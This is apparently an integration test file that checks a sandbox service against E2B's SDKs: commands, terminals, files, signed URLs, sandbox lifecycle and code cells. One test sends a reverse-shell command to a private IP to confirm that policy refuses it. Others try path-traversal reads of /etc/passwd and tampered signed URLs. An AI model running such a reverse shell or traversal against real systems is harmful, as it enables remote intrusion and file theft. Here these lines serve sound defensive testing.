// E2B's own packages against this service: E2B_API_URL, E2B_SANDBOX_URL and E2B_API_KEY say where. One line of JSON for
// each case, {group, name, error}; the name of a group as the argument runs that one alone.
import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { setTimeout as sleep } from 'node:timers/promises'
import { Sandbox, Template } from 'e2b'
import { Sandbox as CodeSandbox } from '@e2b/code-interpreter'
import { e2b as computeE2b } from '@computesdk/e2b'

const url = process.env.E2B_SANDBOX_URL

async function until(what, note = () => '', patience = 30000) {
  for (const end = Date.now() + patience; ; await sleep(20)) {
    const found = await what()
    if (found) return found
    assert.ok(Date.now() < end, 'did not come: ' + what + note())
  }
}

async function throws(name, promise, words = /./) {
  try {
    await promise
  } catch (e) {
    assert.equal(e.name, name, String(e))
    assert.match(String(e.message), words)
    return e
  }
  assert.fail('no ' + name)
}

const commands = {
  async 'output, exit codes, directory and environment of a command'(sb) {
    const r = await sb.commands.run('echo hi; echo err >&2; pwd; echo $A$B', { cwd: '/home/user', envs: { A: 'a' } })
    assert.deepEqual([r.exitCode, r.stdout, r.stderr], [0, 'hi\n/workspace\nab\n', 'err\n'])
    const e = await throws('CommandExitError', sb.commands.run('echo no >&2; exit 3'), /exit status 3/)
    assert.deepEqual([e.exitCode, e.stderr], [3, 'no\n'])
    const bytes = await sb.commands.run("printf 'gr\\303\\274n\\n'; head -c 200000 /dev/zero | tr '\\0' x")
    assert.equal(bytes.stdout, 'grün\n' + 'x'.repeat(200000))
  },
  async 'a command in the background takes input, is listed, joined and ends with its input'(sb) {
    let said = ''
    const cat = await sb.commands.run('cat', { background: true, stdin: true, onStdout: (s) => (said += s) })
    await sb.commands.sendStdin(cat.pid, 'one\n')
    await until(() => said === 'one\n')
    const listed = (await sb.commands.list()).find((p) => p.pid === cat.pid)
    assert.deepEqual([listed.cmd, listed.args], ['/bin/bash', ['-l', '-c', 'cat']])
    await cat.disconnect()
    let again = ''
    const joined = await sb.commands.connect(cat.pid, { onStdout: (s) => (again += s) })
    await sb.commands.sendStdin(cat.pid, 'two\n')
    await until(() => again.endsWith('two\n'))
    await sb.commands.closeStdin(cat.pid)
    assert.equal((await joined.wait()).exitCode, 0)
    assert.deepEqual((await sb.commands.list()).filter((p) => p.pid === cat.pid), [])
  },
  async 'a command is killed, one that is not there is not'(sb) {
    const long = await sb.commands.run('echo there; sleep 1000', { background: true, timeoutMs: 0 })
    await until(() => long.stdout)
    assert.equal(await long.kill(), true)
    const e = await throws('CommandExitError', long.wait(), /signal: killed/)
    assert.equal(e.exitCode, -1)
    assert.equal(await sb.commands.kill(long.pid), false)
    await throws('NotFoundError', sb.commands.sendStdin(4711, 'x'), /4711/)
  },
  async 'a command whose time is over is ended'(sb) {
    await throws('TimeoutError', sb.commands.run('sleep 1000', { timeoutMs: 300 }))
    await until(async () => !(await sb.commands.list()).some((p) => p.args.includes('sleep 1000')))
  },
  async 'a terminal has a size that changes'(sb) {
    let said = ''
    const pty = await sb.pty.create({ cols: 91, rows: 33, onData: (d) => (said += Buffer.from(d).toString()) })
    await sb.pty.sendInput(pty.pid, Buffer.from('stty size\n'))
    await until(() => said.includes('33 91'))
    await sb.pty.resize(pty.pid, { cols: 77, rows: 22 })
    await sb.pty.sendInput(pty.pid, Buffer.from('stty size\n'))
    await until(() => said.includes('22 77'))
    assert.equal(await sb.pty.kill(pty.pid), true)
  },
  async 'what policy refuses is said to the client'(sb) {
    await throws('SandboxError', sb.commands.run('bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'), /permission_denied/)
  },
}

const files = {
  async 'files are written, read, listed, moved and removed'(sb) {
    const info = await sb.files.write('/home/user/dir/a.txt', 'hello')
    assert.deepEqual([info.name, info.path, info.type], ['a.txt', '/home/user/dir/a.txt', 'file'])
    await sb.files.write([
      { path: 'dir/b "q".txt', data: 'bee' },
      { path: '/workspace/dir/c.bin', data: new Uint8Array([0, 1, 13, 10, 45, 45, 255]).buffer },
      { path: 'dir/empty', data: '' },
    ])
    assert.equal(await sb.files.read('dir/a.txt'), 'hello')
    assert.equal(await sb.files.read('dir/b "q".txt'), 'bee')
    assert.equal(await sb.files.read('dir/empty'), '')
    assert.deepEqual([...(await sb.files.read('dir/c.bin', { format: 'bytes' }))], [0, 1, 13, 10, 45, 45, 255])
    const list = await sb.files.list('/home/user/dir')
    assert.deepEqual(list.map((f) => f.name).sort(), ['a.txt', 'b "q".txt', 'c.bin', 'empty'])
    const a = list.find((f) => f.name === 'a.txt')
    assert.deepEqual([a.path, a.type, a.size, a.permissions], ['/home/user/dir/a.txt', 'file', 5, '-rw-r--r--'])
    const deep = await sb.files.list('/home/user', { depth: 2 })
    assert.ok(deep.some((f) => f.path === '/home/user/dir/a.txt' && f.name === 'a.txt'))
    assert.equal((await sb.files.rename('dir/a.txt', 'dir/z.txt')).path, '/home/user/dir/z.txt')
    assert.deepEqual([await sb.files.exists('dir/a.txt'), await sb.files.exists('dir/z.txt')], [false, true])
    assert.deepEqual([await sb.files.makeDir('new/deep'), await sb.files.makeDir('new/deep')], [true, false])
    assert.equal((await sb.files.getInfo('new')).type, 'dir')
    await sb.files.remove('new')
    await sb.files.remove('new')
    assert.equal(await sb.files.exists('new'), false)
    assert.equal((await sb.commands.run('cat /home/user/dir/z.txt')).stdout, 'hello')
  },
  async 'what is not there, or lies elsewhere, is said'(sb) {
    await throws('FileNotFoundError', sb.files.read('nope'))
    await throws('FileNotFoundError', sb.files.list('nope'))
    await throws('SandboxError', sb.files.write('/etc/x', 'y'), /403: .*elsewhere, by commands/)
    await throws('InvalidArgumentError', sb.files.write('x', 'y', { gzip: true }), /Content-Encoding/)
    for (const path of ['../../etc/passwd', 'dir/../../../etc/passwd'])
      await assert.rejects(sb.files.read(path))
  },
  async 'a directory is watched'(sb) {
    const seen = []
    await sb.files.makeDir('watched/deep')
    const handle = await sb.files.watchDir('watched', (e) => seen.push(e.type + ' ' + e.name), { recursive: true })
    await sb.commands.run('echo x > watched/deep/a')
    await until(() => seen.includes('create deep/a') && seen.includes('write deep/a'), () => seen)
    await sb.commands.run('rm watched/deep/a')
    await until(() => seen.includes('remove deep/a'))
    await handle.stop()
    await assert.rejects(sb.files.watchDir('nowhere', () => 0), /nowhere/)
  },
  async 'a stream is uploaded and downloaded'(sb) {
    const data = new Uint8Array(3000000).map((_, i) => i % 251)
    await sb.files.write('big', new Blob([data]).stream())
    assert.deepEqual(Buffer.compare(Buffer.from(await sb.files.read('big', { format: 'bytes' })), Buffer.from(data)), 0)
  },
  async 'signed addresses let in without a token, and nothing else'(sb) {
    await sb.files.write('signed', 'for all')
    const down = await sb.downloadUrl('signed', { useSignatureExpiration: 600 })
    assert.equal(await (await fetch(down)).text(), 'for all')
    const form = new FormData()
    form.append('file', new Blob(['up']), 'whatever')
    const up = await sb.uploadUrl('signed')
    assert.equal((await fetch(up, { method: 'POST', body: form })).status, 200)
    assert.equal(await sb.files.read('signed'), 'up')
    for (const [address, why] of [
      [down.replace('path=signed', 'path=dir%2Fz.txt'), 'another path'],
      [up, 'read by an address for writing'],
      [down.replace(/expiration=\d+/, 'expiration=4000000000'), 'a later end'],
      [url + '/files?path=signed', 'nothing'],
    ]) {
      const answer = await fetch(address)
      assert.equal(answer.status, 401, why)
      assert.equal((await answer.json()).code, 401)
    }
    const past = Math.floor(Date.now() / 1000) - 10
    const hash = createHash('sha256').update(`signed:read::${sb.envdAccessToken}:${past}`).digest('base64')
    const query = new URLSearchParams({ path: 'signed', signature: 'v1_' + hash.replace(/=+$/, '') })
    assert.equal((await fetch(`${url}/files?${query}&signature_expiration=${past}`)).status, 401)
  },
}

const control = {
  async 'metadata finds a sandbox, and nothing else'(sb) {
    const found = await Sandbox.list({ query: { metadata: { run: 'a b&c=d', agent_id: 'e2b-agent' } } }).nextItems()
    assert.deepEqual(found.map((s) => s.sandboxId), [sb.sandboxId])
    assert.deepEqual(found[0].metadata, { run: 'a b&c=d', agent_id: 'e2b-agent' })
    assert.deepEqual(await Sandbox.list({ query: { metadata: { run: 'b' } } }).nextItems(), [])
    assert.deepEqual(await Sandbox.list({ query: { state: ['paused'], metadata: { run: 'a b&c=d' } } }).nextItems(), [])
  },
  async 'a list comes in pages'(sb) {
    const other = await Sandbox.create({ timeoutMs: 60000 })
    const pages = Sandbox.list({ limit: 1 })
    const ids = []
    while (pages.hasNext) ids.push(...(await pages.nextItems()).map((s) => s.sandboxId))
    assert.equal(new Set(ids).size, ids.length)
    assert.ok(ids.includes(sb.sandboxId) && ids.includes(other.sandboxId), String(ids))
    await other.kill()
  },
  async 'a sandbox is shown, joined, and lives longer'(sb) {
    const before = await sb.getInfo()
    assert.deepEqual([before.sandboxId, before.state, before.templateId], [sb.sandboxId, 'running', 'base'])
    assert.ok(before.cpuCount >= 1 && before.memoryMB >= 1, JSON.stringify(before))
    await sb.setTimeout(3000000)
    const after = await sb.getInfo()
    assert.ok(after.endAt - before.endAt > 1000000)
    const joined = await Sandbox.connect(sb.sandboxId, { timeoutMs: 1000 })
    assert.equal((await joined.getInfo()).endAt.getTime(), after.endAt.getTime())
    assert.equal((await joined.commands.run('echo joined')).stdout, 'joined\n')
    assert.equal(await sb.isRunning(), true)
  },
  async 'a sandbox stands still while it is paused'() {
    const sb = await Sandbox.create({ timeoutMs: 120000 })
    await sb.commands.run('while :; do echo x >> ticks; sleep 0.02; done', { background: true, timeoutMs: 0 })
    const ticks = async () => (await sb.files.read('ticks').catch(() => '')).length
    await until(ticks)
    assert.deepEqual([await sb.pause(), await sb.pause()], [true, false])
    assert.equal((await sb.getInfo()).state, 'paused')
    const paused = await Sandbox.list({ query: { state: ['paused'] } }).nextItems()
    assert.deepEqual(paused.map((s) => s.sandboxId), [sb.sandboxId])
    await assert.rejects(sb.commands.run('true'), /paused/)
    const again = await Sandbox.connect(sb.sandboxId)
    const before = await ticks()
    await until(async () => (await ticks()) > before)
    assert.equal((await again.getInfo()).state, 'running')
    await again.kill()
  },
  async 'a sandbox without the Internet has none'() {
    const sb = await Sandbox.create({ timeoutMs: 60000, allowInternetAccess: false })
    const r = await sb.commands.run('cat /proc/net/dev')
    assert.deepEqual(r.stdout.match(/^ *\w+(?=:)/gm).map((name) => name.trim()), ['lo'])
    await sb.kill()
  },
  async 'metrics come'(sb) {
    const [m] = await until(async () => { const list = await sb.getMetrics(); return list.length && list })
    assert.ok(m.memUsed > 0 && m.memTotal > m.memUsed && m.cpuCount >= 1 && m.cpuUsedPct >= 0, JSON.stringify(m))
  },
  async 'a sandbox that was killed is gone, everywhere'() {
    const sb = await Sandbox.create('base', { timeoutMs: 60000 })
    const running = sb.commands.run('sleep 1000')
    running.catch(() => 0)
    assert.equal(await sb.kill(), true)
    await assert.rejects(running)
    assert.equal(await sb.kill(), false)
    await until(async () => !(await sb.isRunning()))
    await throws('SandboxNotFoundError', sb.getInfo())
    await throws('SandboxNotFoundError', Sandbox.connect(sb.sandboxId))
    await assert.rejects(sb.commands.run('true'), /not found|not running|timeout/i)
    await throws('TimeoutError', sb.files.read('x'))
  },
  async 'what is not offered is not found, or refused'(sb) {
    assert.equal(await Template.exists('mine'), false)
    await throws('SandboxNotFoundError', sb.createSnapshot())
    await throws('SandboxError', Sandbox.create({ network: { denyOut: ['0.0.0.0/0'] } }), /network: not offered/)
    await throws('SandboxError', Sandbox.create({ metadata: { risk_level: 'none' } }), /risk_level/)
    await throws('AuthenticationError', Sandbox.create({ apiKey: 'e2b_' + '0'.repeat(64) }))
  },
}

const code = {
  async 'variables stay from cell to cell'(sb) {
    await sb.runCode('x = 20')
    const r = await sb.runCode("print('said'); import sys; print('err', file=sys.stderr)\nx + 1")
    assert.deepEqual([r.text, r.logs.stdout.join(''), r.logs.stderr.join('')], ['21', 'said\n', 'err\n'])
    assert.equal(r.executionCount, 2)
  },
  async 'results have all their forms'(sb) {
    const r = await sb.runCode(`
class Rich:
    def _repr_html_(self): return '<b>x</b>'
    def _repr_png_(self): return b'\\x89PNG\\r\\n\\x1a\\n'
    def _repr_json_(self): return {'a': [1, 2]}
    def __repr__(self): return 'rich'
display(Rich())
Rich()`)
    assert.equal(r.error, undefined)
    assert.equal(r.results.length, 2)
    for (const one of r.results) {
      assert.deepEqual([one.text, one.html, one.png], ['rich', '<b>x</b>', 'iVBORw0KGgo='])
      assert.deepEqual(one.json, { a: [1, 2] })
    }
    assert.deepEqual(r.results.map((one) => one.isMainResult), [false, true])
  },
  async 'an exception is told with its traceback'(sb) {
    const r = await sb.runCode('def f():\n    return 1 / 0\nf()')
    assert.deepEqual([r.error.name, r.error.value], ['ZeroDivisionError', 'division by zero'])
    assert.match(r.error.traceback, /line 2/)
  },
  async 'contexts have variables of their own'(sb) {
    const context = await sb.createCodeContext({ language: 'python' })
    await sb.runCode('y = 1', { context })
    assert.equal((await sb.runCode('y', { context })).text, '1')
    assert.equal((await sb.runCode('y')).error.name, 'NameError')
    assert.ok((await sb.listCodeContexts()).some((c) => c.id === context.id))
    await sb.restartCodeContext(context)
    assert.equal((await sb.runCode('y', { context })).error.name, 'NameError')
    await sb.removeCodeContext(context)
    assert.ok(!(await sb.listCodeContexts()).some((c) => c.id === context.id))
    await throws('NotFoundError', sb.runCode('y', { context }))
  },
  async 'cells at the same time wait for each other'(sb) {
    const all = await Promise.all([1, 2, 3].map((n) => sb.runCode(`import time; time.sleep(0.05); ${n}`)))
    assert.deepEqual(all.map((r) => r.text), ['1', '2', '3'])
  },
  async 'a cell that shows more than a list usually holds comes whole'(sb) {
    const all = await sb.runCode('for i in range(63): display(i)\n[i]')
    assert.deepEqual([all.results.length, all.results[62].text, all.error], [64, '62', undefined])
    const deep = await sb.runCode('class Deep:\n    def _repr_json_(self):\n        d = 1\n' +
      '        for _ in range(30): d = [d]\n        return d\nDeep()')
    assert.equal(JSON.stringify(deep.results[0].json), '['.repeat(30) + '1' + ']'.repeat(30))
  },
  async 'a context whose kernel has ended is made anew'(sb) {
    await sb.runCode('z = 1')
    assert.ok((await sb.runCode('import signal; signal.raise_signal(9)')).error)
    assert.equal((await sb.runCode('z')).error.name, 'NameError')
  },
  async 'more than a page of files and commands is there'(sb) {
    await sb.commands.run('mkdir -p many && cd many && touch $(seq 1 100)')
    assert.equal((await sb.files.list('many')).length, 100)
  },
  async 'JavaScript and bash have contexts, too'(sb) {
    await sb.runCode('const n = 6', { language: 'js' })
    assert.equal((await sb.runCode('await Promise.resolve(n * 7)', { language: 'js' })).text, '42')
    await sb.runCode('n=6', { language: 'bash' })
    const bash = await sb.runCode('echo $((n * 7))', { language: 'bash' })
    assert.equal(bash.logs.stdout.join(''), '42\n')
    const context = await sb.createCodeContext({ language: 'javascript' })
    assert.equal(context.language, 'javascript')
    assert.equal((await sb.runCode('n', { context })).error.name, 'ReferenceError')
  },
  async 'code of JavaScript with variables of its own runs by itself'(sb) {
    const js = await sb.runCode('console.log(6 * 7, process.env.A)', { language: 'js', envs: { A: 'b' } })
    assert.deepEqual([js.logs.stdout.join(''), js.error], ['42 b\n', undefined])
  },
  async 'a cell that lasts too long is told, and the next one runs'(sb) {
    await throws('TimeoutError', sb.runCode('import time\nwhile True: time.sleep(0.1)', { timeoutMs: 500 }))
    assert.equal((await sb.runCode('1 + 1')).text, '2')
  },
  async 'commands and files are those of the same sandbox'(sb) {
    await sb.runCode("open('/home/user/from-code', 'w').write('cell')")
    assert.equal(await sb.files.read('from-code'), 'cell')
  },
}

const compute = {
  async 'ComputeSDK runs commands and files'() {
    const provider = computeE2b({ apiKey: process.env.E2B_API_KEY, timeout: 60000 })
    const sb = await provider.sandbox.create()
    const r = await sb.runCommand('echo computed')
    assert.deepEqual([r.exitCode, r.stdout], [0, 'computed\n'])
    await sb.filesystem.mkdir('/home/user/c')
    await sb.filesystem.writeFile('/home/user/c/f', 'text')
    assert.equal(await sb.filesystem.readFile('/home/user/c/f'), 'text')
    assert.deepEqual((await sb.filesystem.readdir('/home/user/c')).map((f) => f.name), ['f'])
    assert.equal(await sb.filesystem.exists('/home/user/c/g'), false)
    await provider.sandbox.destroy(sb.sandboxId)
    await throws('SandboxNotFoundError', Sandbox.getInfo(sb.sandboxId))
  },
}

// A sandbox for each group; its cases one after the other, and the groups side by side.
const options = { timeoutMs: 600000, envs: { B: 'b' } }
const groups = {
  commands: [commands, () => Sandbox.create(options)],
  files: [files, () => Sandbox.create(options)],
  control: [control, () => Sandbox.create({ ...options, metadata: { run: 'a b&c=d', agent_id: 'e2b-agent' } })],
  code: [code, () => CodeSandbox.create(options)],
  compute: [compute, () => null],
}
const only = process.argv[2]
await Promise.all(Object.entries(groups).map(async ([group, [cases, create]]) => {
  if (only && only !== group) return
  const sb = await create()
  for (const [name, run] of Object.entries(cases)) {
    const began = Date.now()
    const error = await run(sb).then(() => null, (e) => String(e.stack ?? e))
    console.log(JSON.stringify({ group, name, error, ms: Date.now() - began }))
  }
  await sb?.kill()
}))
process.exit() // the SDK keeps timers of requests that are over
